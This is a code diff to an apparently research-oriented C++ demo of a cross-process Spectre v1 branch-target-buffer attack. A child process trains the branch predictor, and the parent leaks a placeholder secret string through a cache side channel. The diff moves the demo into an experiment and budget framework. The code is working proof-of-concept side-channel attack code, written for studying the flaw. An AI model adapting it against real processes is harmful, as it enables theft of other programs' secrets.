@@ -27,6 +27,7 @@
 #include <sched.h>
 #include <signal.h>
 #include <sys/types.h>
+#include <sys/wait.h>
 #include <unistd.h>
 
 #include <array>
@@ -34,9 +35,13 @@
 #include <iostream>
 
 #include "cache_sidechannel.h"
+#include "demo_registry.h"
+#include "experiment.h"
 #include "instr.h"
 #include "utils.h"
 
+namespace {
+
 const char *public_data = "xxxxxxxxxxxxxxxx";
 const char *private_data = "It's a s3kr3t!!!";
 
@@ -70,8 +75,13 @@ class PublicDataAccessor : public DataAccessor {
   char GetDataByte(size_t index) override { return public_data[index]; }
 };
 
-static char LeakByte(size_t offset) {
-  CacheSideChannel sidechannel;
+}  // namespace
+
+// The child passes an unlimited budget and interferes until the parent dies.
+static ExperimentOutcome LeakByte(CacheSideChannel &sidechannel,
+                                  size_t offset,
+                                  const ExperimentBudget &budget) {
+  sidechannel.ResetScores();
   const std::array<BigByte, 256> &oracle = sidechannel.GetOracle();
   auto array_of_pointers =
       std::unique_ptr<std::array<DataAccessor *, kAccessorArrayLength>>(
@@ -85,7 +95,7 @@ static char LeakByte(size_t offset) {
   auto private_data_accessor =
       std::unique_ptr<DataAccessor>(new PrivateDataAccessor);
 
-  for (int run = 0;; ++run) {
+  return RunExperiment(sidechannel, budget, [&](int /* run */) {
     // Only the parent needs to flush the oracle.
     if (pid != 0) {
       sidechannel.FlushOracle();
@@ -105,6 +115,9 @@ static char LeakByte(size_t offset) {
           public_data_accessor.get() - private_data_accessor.get());
     }
 
+    // The child process trains the predictor. In the parent, whose events are
+    // the ones counted, every call may be mispredicted.
+    MarkPhase(ExperimentPhase::kTrigger);
     for (size_t i = 0; i < kAccessorArrayLength; ++i) {
       DataAccessor *accessor = (*array_of_pointers)[i];
 
@@ -125,16 +138,12 @@ static char LeakByte(size_t offset) {
     }
 
     // Only the parent (victim) computes results.
+    std::pair<bool, char> result(false, 0);
     if (pid != 0) {
-      std::pair<bool, char> result =
-          sidechannel.RecomputeScores(public_data[offset]);
+      MarkPhase(ExperimentPhase::kProbe);
+      result = sidechannel.RecomputeScores(public_data[offset]);
       if (result.first) {
-        return result.second;
-      }
-
-      if (run > 100000) {
-        std::cerr << "Does not converge " << result.second << std::endl;
-        exit(EXIT_FAILURE);
+        return result;
       }
     }
 
@@ -146,26 +155,30 @@ static char LeakByte(size_t offset) {
 
     // Let the other process run to increase the interference.
     sched_yield();
-  }
+    return result;
+  });
 }
 
-void ChildProcess() {
+static void ChildProcess() {
+  CacheSideChannel sidechannel;
   // Infinitely interfere with the critical branching. Results are not
   // interesting.
-  LeakByte(0);
+  LeakByte(sidechannel, 0, ExperimentBudget::Unlimited());
 }
 
-void ParentProcess() {
-  std::cout << "Leaking the string: ";
-  std::cout.flush();
+static void ParentProcess(DemoContext &context) {
+  CacheSideChannel &sidechannel = context.sidechannel();
+  context.BeginLeak(private_data);
   for (size_t i = 0; i < strlen(public_data); ++i) {
-    std::cout << LeakByte(i);
-    std::cout.flush();
+    ExperimentOutcome outcome = LeakByte(sidechannel, i, context.budget());
+    if (!context.ReportByte(outcome)) {
+      break;
+    }
   }
-  std::cout << "\nDone!\n";
+  context.EndLeak();
 }
 
-int main() {
+static void RunDemo(DemoContext &context) {
   // We need both processes to run on the same core. Pinning the parent before
   // the fork to the first core. The child inherits the settings.
   PinToTheFirstCore();
@@ -179,7 +192,12 @@ int main() {
     // Child is the attacker.
     ChildProcess();
   } else {
-    // Parent is the victim.
-    ParentProcess();
+    // Parent is the victim. The child would only notice the end of the demo
+    // when the whole process exits, so stop it explicitly.
+    ParentProcess(context);
+    kill(pid, SIGKILL);
+    waitpid(pid, nullptr, 0);
   }
 }
+
+SAFESIDE_REGISTER_DEMO(spectre_v1_btb_ca, RunDemo);